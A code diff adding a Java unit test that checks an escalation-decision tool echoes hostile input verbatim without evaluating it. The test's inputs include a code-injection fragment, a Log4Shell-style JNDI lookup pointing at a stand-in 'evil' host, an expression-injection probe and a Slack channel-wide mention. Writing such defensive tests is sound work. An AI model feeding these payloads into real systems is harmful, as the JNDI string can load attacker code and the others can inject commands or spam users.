@@ -170,6 +170,21 @@ class DecideTest {
         assertThat(run.out()).contains("%% no DRI was decided").doesNotContain("classDef");
     }
 
+    /** Hostile text is data: it comes back verbatim (JSON-escaped), nothing is evaluated. */
+    @ParameterizedTest
+    @ValueSource(strings = {"\"); System.exit(1); //", "${jndi:ldap://evil/x}", "#{7*7}", "<!channel>", "\\\"quoted\\\""})
+    void hostileTextComesBackVerbatim(String text) throws Exception {
+        String quoted = JSON.writeValueAsString(text);
+        CommandRun run = CommandRun.of("{" + NOW + ",\"account\":{\"name\":" + JSON.writeValueAsString(text + " Co")
+                + ",\"segment\":\"CSM_MANAGED\",\"team\":{\"csm\":" + quoted + "}},\"escalation\":{\"severity\":"
+                + "\"LOW\",\"openedAt\":\"2026-03-02T15:00:00Z\",\"channel\":{\"name\":" + quoted + "}}}", "decide");
+
+        assertThat(run.status()).as(run.err()).isZero();
+        JsonNode decision = json(run.out());
+        assertThat(decision.at("/plan/dri/name").textValue()).isEqualTo(text);
+        assertThat(decision.get("findings").findValuesAsText("channel")).contains(text);
+    }
+
     @Test
     void helpAndUsageErrors() {
         assertThat(CommandRun.of("", "decide", "--help").out()).contains("usage: java -jar escalation-examples.jar decide");
